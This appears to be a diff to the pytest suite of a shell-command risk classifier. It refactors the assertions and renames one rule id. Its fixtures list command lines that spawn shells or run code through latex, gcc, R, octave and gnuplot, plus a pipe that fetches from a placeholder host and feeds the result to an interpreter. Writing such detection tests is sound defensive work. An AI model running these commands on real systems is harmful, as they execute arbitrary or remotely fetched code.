@@ -13,7 +13,7 @@ import subprocess
 import pytest
 
 from wispsh.model import Level
-from test_rules_support import describe, judge, make_place
+from test_rules_support import judge, make_place, reaches, stays_within
 
 S, L, M, H, D = Level.SAFE, Level.LOW, Level.MODERATE, Level.HIGH, Level.DANGEROUS
 
@@ -31,11 +31,6 @@ def place(tmp_path_factory):
 
 def level(line: str, place) -> Level:
     return judge(line, place).reached
-
-
-def rules(line: str, place) -> set[str]:
-    o = judge(line, place)
-    return {f.rule for j in o.parts for f in j.verdict.findings} | {f.rule for f in o.line.findings}
 
 
 AT_LEAST = [
@@ -91,7 +86,7 @@ AT_LEAST = [
     ("latex --shell-escape '\\immediate\\write18{id}'", H, "tex.shell-escape"),
     ("latexmk -pdf -pdflatex='/bin/sh #' x.tex", H, "latexmk.commands"),
     ("gcc -wrapper /bin/sh,-s x.c", H, "cc.runs-program"),
-    ("R --no-save -e 'system(\"id\")'", H, "R.inline"),
+    ("R --no-save -e 'system(\"id\")'", H, "r.inline"),
     ("octave-cli --eval 'system(\"id\")'", H, "octave-cli.inline"),
     ("gnuplot -e 'system(\"id\")'", H, "gnuplot.inline"),
     ("curl -s https://x.example/m | m4", D, "flow.fetch-to-interpreter"),
@@ -127,15 +122,12 @@ AT_MOST = [
 
 @pytest.mark.parametrize("line,least,rule", AT_LEAST)
 def test_script_options_run_their_script(line, least, rule, place):
-    outcome = judge(line, place)
-    assert outcome.reached >= least, describe(outcome)
-    assert rule in rules(line, place), describe(outcome)
+    reaches(line, place, least, rule)
 
 
 @pytest.mark.parametrize("line,most", AT_MOST)
 def test_daily_scripts_stay_quiet(line, most, place):
-    outcome = judge(line, place)
-    assert outcome.reached <= most, describe(outcome)
+    stays_within(line, place, most)
 
 
 def test_a_readable_project_script_is_judged_by_its_text_not_its_name(place):
